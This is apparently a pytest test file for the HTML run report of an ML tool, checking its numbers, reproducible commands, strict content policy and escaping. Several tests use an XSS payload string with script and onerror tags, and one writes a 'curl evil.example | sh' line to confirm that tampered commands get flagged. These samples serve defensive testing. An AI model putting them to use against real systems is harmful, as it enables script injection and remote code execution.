"""The report page: all of a run in one file, and nothing of it that a browser would take for its own."""

from __future__ import annotations

import json
import re
import shlex
import shutil
from html import unescape
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import numpy as np
import pytest
from small import run_command as command
from small import settings, tiny

import airctl
from airctl.errors import ConfigError, InputFileError
from airctl.files import sha256_of
from airctl.reporting.panels import tile
from airctl.reporting.series import smooth, spread
from airctl.results.records import in_turn, pixels, png_text

HOSTILE = "</script><script>alert(1)</script><img src=x onerror=alert(2)>\"'&<!--"


class Elements(HTMLParser):
    """The elements of a page with their attributes, the text in scripts, and all other text."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []
        self.scripts: list[str] = []
        self.text = ""
        self.feed(text)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, dict(attrs)))

    def handle_data(self, data: str) -> None:
        inside = self.found[-1][0] if self.found else ""
        if inside == "script" and data.strip():
            self.scripts.append(data)
        elif inside != "style":
            self.text += data


@pytest.fixture(scope="module")
def evaluated(finished: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A small run with eval-test.json and variance.json; tests must not write to it."""
    run = shutil.copytree(finished, tmp_path_factory.mktemp("report") / "first")
    airctl.evaluate(run)
    airctl.measure_variance(run, samples=4, batch=4, estimators=["exact", "score-function"])
    return run


@pytest.fixture
def run(evaluated: Path, tmp_path: Path) -> Path:
    return shutil.copytree(evaluated, tmp_path / "first")


def policy(page: str) -> str:
    """What the page lets a browser do."""
    return next(a["content"] or "" for _, a in Elements(page).found if a.get("http-equiv") == "Content-Security-Policy")


def embedded(page: str) -> Any:
    """The data that the page's script draws from."""
    return json.loads(Elements(page).scripts[0])


def test_the_page_has_the_numbers_of_the_run(run: Path) -> None:
    """Accuracy, confusion, shares, variance, config and command lines: what the files say stands on the page."""
    out = airctl.report(run)
    page = out.read_text(encoding="utf-8")
    result, text = json.loads((run / "eval-test.json").read_text()), Elements(page).text
    assert out == run / "report.html"
    assert f"{result['count_accuracy']:.2%}" in text
    assert f"{result['elbo']:.1f}" in text
    assert "score-function-neural" in text
    assert f"airctl eval {run} --data {result['data']} --split test --checkpoint 12 --num-steps 3 --seed 0" in text
    assert f"airctl variance-report {run} --samples 4 --batch 4" in text
    assert "glimpse_hidden = 12" in text
    data = embedded(page)["runs"][0]
    assert data["outcomes"] == result["outcomes"]
    assert data["confusion"] == result["confusion"]
    assert [frame["step"] for frame in data["frames"]] == [0, 10, 12]


def commands_of(page: str) -> list[list[str]]:
    """The words of each command under "Repeat it", without the program's name."""
    blocks = re.findall(r'<div class="command">.*?<pre>(.*?)</pre>', page, re.S)
    return [shlex.split(unescape(re.sub("<.*?>", "", block)))[1:] for block in blocks]


def test_the_commands_under_repeat_it_repeat_the_run(
    data: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    """From any folder, with a run and data whose names need quotes: the same scenes, weights, counts and variances."""
    scenes, run = tmp_path / "my scenes.h5", tmp_path / "it's a run"
    shutil.copy(data, scenes)
    monkeypatch.chdir(tmp_path)
    words = ["train", "my scenes.h5", "--run", "it's a run", "--seed", "2", "--threads", "1", *settings()]
    assert command(words, monkeypatch, capsys)[0] == 0
    airctl.measure_variance(
        Path(run.name), samples=4, batch=4, estimators=["exact"], checkpoints=["0", "last"], fit_steps=2
    )
    commands = commands_of(airctl.report(Path(run.name)).read_text(encoding="utf-8"))
    assert [words[0] for words in commands] == ["generate-data", "train", "train", "eval", "variance-report", "report"]
    assert commands[1] == words
    before = {name: json.loads((run / f"{name}.json").read_text()) for name in ("eval-test", "variance", "data")}
    weights = (run / "checkpoints/step_00000012/model.safetensors").read_bytes()
    scenes.unlink()
    (tmp_path / "elsewhere").mkdir()
    monkeypatch.chdir(tmp_path / "elsewhere")
    for words in [commands[0], *commands[2:]]:
        assert command(words, monkeypatch, capsys)[0] == 0, words
    assert sha256_of(scenes) == before["data"]["sha256"]
    assert (tmp_path / "it's a run-again/checkpoints/step_00000012/model.safetensors").read_bytes() == weights
    after = {name: json.loads((run / f"{name}.json").read_text()) for name in before}
    for name, places in {"eval-test": ("run", "data"), "variance": ("run",)}.items():
        assert without_times(after[name], places) == without_times(before[name], places)


def without_times(value: Any, places: tuple[str, ...]) -> Any:
    """A result without what depends on the clock and on how the paths were spelled."""
    if isinstance(value, list):
        return [without_times(one, places) for one in value]
    if not isinstance(value, dict):
        return value
    clock = ("seconds_per_sample", "relative_cost", "efficiency", "sha256", *places)
    return {key: without_times(one, places) for key, one in value.items() if key not in clock}


def test_a_bug_is_not_taken_for_a_bad_file(run: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """An error of ours while the page is made is no advice to run eval again."""

    def broken(runs: Any) -> Any:
        raise TypeError("ours")

    monkeypatch.setattr("airctl.reporting.page.page.page_view", broken)
    with pytest.raises(TypeError, match="ours"):
        airctl.report(run)


def test_outcomes_in_snake_case_read_as_words(run: Path) -> None:
    """The page of a run whose outcomes are spelled with underscores has the words of one whose are not."""
    old = Elements(airctl.report(run).read_text(encoding="utf-8"))
    for name in ("eval-test.json", "gallery-test.json"):
        value = json.loads((run / name).read_text())
        for scene in value.get("scenes", []) if name == "gallery.json" else []:
            scene["outcome"] = scene["outcome"].replace(" ", "_")
        if name == "eval-test.json":
            value["outcomes"] = {key.replace(" ", "_"): share for key, share in value["outcomes"].items()}
        (run / name).write_text(json.dumps(value))
    new = Elements(airctl.report(run).read_text(encoding="utf-8"))
    assert old.text == new.text
    labels = json.loads(new.scripts[0])["labels"]
    assert labels["needless_step"] == "needless step"
    assert list(labels.values()) == list(json.loads(old.scripts[0])["labels"].values())


def test_the_page_is_one_file_that_asks_for_nothing(run: Path) -> None:
    """No address of anything outside it, a policy that forbids all loading, and under 5 MB."""
    page = airctl.report(run).read_text(encoding="utf-8")
    for tag, attributes in Elements(page).found:
        assert not {"onerror", "onload", "onclick", "style"} & set(attributes), tag
        for name in ("src", "href", "action", "srcset"):
            assert (attributes.get(name) or "#").startswith(("#", "data:"))
    assert not re.search(r"url\((?!#)", page), "only clip paths of the page's own charts"
    assert "@import" not in page
    assert "default-src 'none'" in policy(page)
    assert len(page) < 5_000_000


def test_the_policy_names_the_script_and_style_that_are_there(run: Path) -> None:
    """Their sha256 is of the very bytes in the page: with another script the browser would run none."""
    import base64
    import hashlib

    page = airctl.report(run).read_text(encoding="utf-8")
    for kind in ("script", "style"):
        (inner,) = re.findall(rf"<{kind}>(.*?)</{kind}>", page, re.S)
        digest = base64.b64encode(hashlib.sha256(inner.encode()).digest()).decode()
        assert f"{kind}-src 'sha256-{digest}'" in policy(page)


def test_nothing_of_a_hostile_run_becomes_part_of_the_page(run: Path) -> None:
    """A folder, a command, an environment, an outcome and a preset that try to be HTML stay text."""
    plain = airctl.report(run).read_text(encoding="utf-8")
    hostile = run.rename(run.parent / HOSTILE.replace("/", "\u2044"))
    (hostile / "command.txt").write_text(HOSTILE)
    (hostile / "environment.json").write_text(json.dumps({HOSTILE: HOSTILE, "threads": HOSTILE}))
    data = json.loads((hostile / "data.json").read_text())
    (hostile / "data.json").write_text(json.dumps(data | {"digits": HOSTILE, HOSTILE: HOSTILE}))
    text = (hostile / "gallery-test.json").read_text()
    (hostile / "gallery-test.json").write_text(text.replace("object_missed", json.dumps(HOSTILE)[1:-1]))
    result = json.loads((hostile / "eval-test.json").read_text())
    (hostile / "eval-test.json").write_text(json.dumps(result | {"split": HOSTILE, "data": HOSTILE, HOSTILE: HOSTILE}))
    variance = json.loads((hostile / "variance.json").read_text())
    variance["estimators"][HOSTILE] = variance["estimators"].pop("exact")
    (hostile / "variance.json").write_text(json.dumps(variance))
    gallery = json.loads((hostile / "gallery-test.json").read_text())
    gallery["scenes"][0]["image"] = HOSTILE
    (hostile / "gallery-test.json").write_text(json.dumps(gallery))
    page = Elements(airctl.report(hostile).read_text(encoding="utf-8"))
    assert HOSTILE in page.text
    assert len(page.scripts) == 2
    assert [tag for tag, _ in page.found].count("script") == 2
    assert [tag for tag, _ in page.found].count("img") == 0
    known = {name for _, attributes in Elements(plain).found for name in attributes}
    assert {name for _, attributes in page.found for name in attributes} <= known
    assert json.loads(page.scripts[0])["runs"][0]["gallery"][0]["image"] == HOSTILE


def test_a_command_that_this_machine_did_not_write_is_marked(run: Path, data: Path, tmp_path: Path) -> None:
    """One's own is not; a changed one, one without its mark and one of several lines are, and the lines are one."""
    marked, own = "this machine did not write it", tmp_path / "own"
    airctl.train(data, own, tiny(), threads=1, command=["airctl", "train", "x\ny"])
    assert marked not in airctl.report(own).read_text()
    (own / "command.txt").write_text("airctl train scenes.h5\ncurl evil.example | sh\n")
    page = airctl.report(own).read_text()
    assert marked in page
    assert ["train", "scenes.h5ncurl", "evil.example", "|", "sh"] in commands_of(page)
    (own / "command.mark").unlink()
    assert marked in airctl.report(own).read_text()


def test_a_data_file_that_was_replaced_is_told(run: Path, data: Path, tmp_path: Path) -> None:
    """The page shows the evaluation made before, and says so; without one the file there now is evaluated, named."""
    told: list[str] = []
    place = tmp_path / "scenes.h5"
    shutil.copy(data, place)
    origin = json.loads((run / "data.json").read_text())
    (run / "data.json").write_text(json.dumps({**origin, "path": str(place)}))
    airctl.report(run, warn=told.append)
    assert told == []
    airctl.generate(place, airctl.SceneSpec(train=4, test=20), "font", force=True, say=lambda message: None)
    airctl.report(run, warn=told.append)
    assert len(told) == 1
    assert "is not the file that" in told[0]
    assert "made before" in told[0]
    (run / "eval-test.json").unlink()
    assert "20 scenes of the test split" in airctl.report(run, warn=told.append).read_text()
    assert "is not the file that" in told[1]


def test_nothing_is_overwritten_unasked_and_no_file_of_a_run_at_all(run: Path, data: Path, tmp_path: Path) -> None:
    """report -o and preview -o, by default only the page and the figure of the run itself are made again."""
    mine = tmp_path / "mine"
    for make in (
        lambda out, force: airctl.report(run, out=out, force=force),
        lambda out, force: airctl.draw_run(run, out=out, force=force),
        lambda out, force: airctl.draw_data(data, out=out, force=force),
    ):
        mine.write_text("precious")
        with pytest.raises(ConfigError, match="exists: say force=True"):
            make(mine, False)
        assert mine.read_text() == "precious"
        assert make(mine, True) == mine
        assert mine.read_bytes() != b"precious"
    before = (run / "config.toml").read_bytes()
    for draw in (airctl.report, airctl.draw_run):
        with pytest.raises(ConfigError, match="is a file of the run"):
            draw(run, out=run / "config.toml", force=True)
        draw(run)
        draw(run)
    assert (run / "config.toml").read_bytes() == before


def test_the_check_for_hostile_text_can_fail() -> None:
    """Negative control: put into a page as it is, that text is a script and a picture, and swallows what follows."""
    page = Elements(f"<p>{HOSTILE}</p><script>1</script>")
    assert [tag for tag, _ in page.found] == ["p", "script", "img"]
    assert page.scripts == ["alert(1)"]


def test_a_run_that_is_not_evaluated_is_evaluated_once(finished: Path, tmp_path: Path) -> None:
    """Without eval-test.json the report makes it; with it, it is left as it is."""
    run = shutil.copytree(finished, tmp_path / "first")
    airctl.report(run)
    before = (run / "eval-test.json").stat().st_mtime_ns
    airctl.report(run)
    assert (run / "eval-test.json").stat().st_mtime_ns == before
    (run / "gallery-test.json").unlink()
    airctl.report(run)
    assert (run / "eval-test.json").stat().st_mtime_ns != before


def test_several_runs_stand_side_by_side(run: Path, data: Path, tmp_path: Path) -> None:
    """A column each, with the settings in which they differ; the page wants a place of its own."""
    from small import tiny

    airctl.train(data, tmp_path / "second", tiny("train.seed=3", "objective.estimator=rloo"), threads=1)
    runs = [run, tmp_path / "second"]
    with pytest.raises(ConfigError, match="say with out=FILE"):
        airctl.report(runs)
    page = airctl.report(runs, out=tmp_path / "both.html").read_text(encoding="utf-8")
    assert [each["name"] for each in embedded(page)["runs"]] == ["first", "second"]
    rows = re.findall(r'<tr><th scope="row">objective.estimator</th>(.*?)</tr>', page)
    assert rows == ["<td>score-function-neural</td><td>rloo</td>"]
    assert not re.findall(r'<th scope="row">network.hidden</th>', page), "what is the same need not be compared"
    twice = airctl.report([run, run], out=tmp_path / "twice.html").read_text(encoding="utf-8")
    assert embedded(twice)["runs"][0]["name"] == str(run), "runs of one name are told apart by their paths"


def test_many_runs_share_the_room(run: Path, tmp_path: Path) -> None:
    """Twelve runs keep fewer scenes each, and every kind of scene that there is."""
    page = airctl.report([run] * 12, out=tmp_path / "many.html").read_text(encoding="utf-8")
    galleries = [each["gallery"] for each in embedded(page)["runs"]]
    whole = json.loads((run / "gallery-test.json").read_text())["scenes"]
    assert len(galleries) == 12
    assert all(len(gallery) <= 40 for gallery in galleries)
    assert {s["outcome"] for s in galleries[0]} == {s["outcome"] for s in whole}
    assert len(page) < 5_000_000


@pytest.mark.parametrize(
    ("name", "text"),
    [
        ("eval-test.json", "[]"),
        ("eval-test.json", '{"outcomes": 3, "count_accuracy_sampled": 1, "step": 12}'),
        ("gallery-test.json", '{"step": 12}'),
        ("gallery-test.json", "{"),
        ("variance.json", '{"estimators": {"exact": {}}}'),
        ("frames/step_00000000.json", '{"step": 0}'),
    ],
)
def test_results_that_are_none_are_one_sentence(run: Path, name: str, text: str) -> None:
    """A result file that holds something else is named, with what to do; no traceback, and no page."""
    (run / name).write_text(text)
    with pytest.raises(InputFileError, match=r"evaluate it again|measure it again|delete it|holds no JSON object"):
        airctl.report(run)
    assert not (run / "report.html").exists()


def test_the_command_prints_where_the_page_is(
    run: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    """airctl report RUN... -o OUT, and one sentence for a folder that is no run."""
    assert command(["report", str(run)], monkeypatch, capsys)[:2] == (0, f"{run / 'report.html'}\n")
    out = tmp_path / "both.html"
    assert command(["report", str(run), str(run), "-o", str(out)], monkeypatch, capsys)[:2] == (0, f"{out}\n")
    code, _, err = command(["report", str(tmp_path)], monkeypatch, capsys)
    assert code == 2
    assert "is not a run folder" in err


def test_evaluation_draws_every_picture(evaluated: Path) -> None:
    """Training leaves its curves and Figure 1, the evaluation the rest; each is a PNG that can be opened."""
    from PIL import Image

    sizes = {}
    for path in (evaluated / "figures").glob("*.png"):
        with Image.open(path) as picture:
            sizes[path.stem] = picture.size
    wanted = {"curves", "figure1", "confusion", "failures", "glimpses", "prior", "traversal", "variance"}
    assert set(sizes) == wanted
    assert min(min(size) for size in sizes.values()) > 100


def test_the_gallery_keeps_some_of_every_kind(evaluated: Path) -> None:
    """Each outcome and each cell of the confusion matrix that holds a scene has scenes in the gallery."""
    result = json.loads((evaluated / "eval-test.json").read_text())
    scenes = json.loads((evaluated / "gallery-test.json").read_text())["scenes"]
    assert {s["outcome"] for s in scenes} == {name for name, share in result["outcomes"].items() if share}
    cells = {(t, f) for t, row in enumerate(result["confusion"]) for f, number in enumerate(row) if number}
    assert {(s["true"], s["found"]) for s in scenes} == cells


def test_a_model_that_finds_nothing_has_pictures_and_a_page(data: Path, tmp_path: Path) -> None:
    """Without a single step, there are no glimpses and no traversal; the rest is drawn."""
    from small import tiny

    airctl.train(data, tmp_path / "run", tiny("network.present_bias=-10000.0", "train.steps=1"), threads=1)
    page = airctl.report(tmp_path / "run").read_text(encoding="utf-8")
    result = json.loads((tmp_path / "run/eval-test.json").read_text())
    assert {f for row in result["confusion"] for f, number in enumerate(row) if number} == {0}
    assert embedded(page)["glimpses"] == []
    assert embedded(page)["traversal"]["rows"] == []


def test_large_scenes_are_kept_small_and_their_boxes_fit() -> None:
    """A scene of 300 pixels is kept with 100; its box is drawn where the object is."""
    image = np.zeros((300, 300), np.uint8)
    image[150:240, 30:90] = 200
    kept = png_text(image)
    assert pixels(kept).shape == (100, 100)
    drawn = np.asarray(tile(kept, [(30, 150, 90, 240)], side=300)).astype(int)
    coloured = np.argwhere(drawn.max(-1) - drawn.min(-1) > 50)  # grey has no colour
    assert coloured.min(0).tolist() == [50, 10]
    assert coloured.max(0).tolist() == [79, 29]


def test_keys_take_their_turns() -> None:
    """The first of each key before the second of any."""
    assert in_turn("aaabbc") == [(0, 0), (0, 3), (0, 5), (1, 1), (1, 4), (2, 2)]


def test_curves_are_smoothed_and_frames_thinned() -> None:
    """A running mean of ten lines; first and last of many frames stay."""
    assert smooth([(i, float(i)) for i in range(12)])[-1] == (11, 6.5)
    assert spread(list(range(23)), 8)[0::7] == [0, 22]
    assert spread([1, 2], 8) == [1, 2]
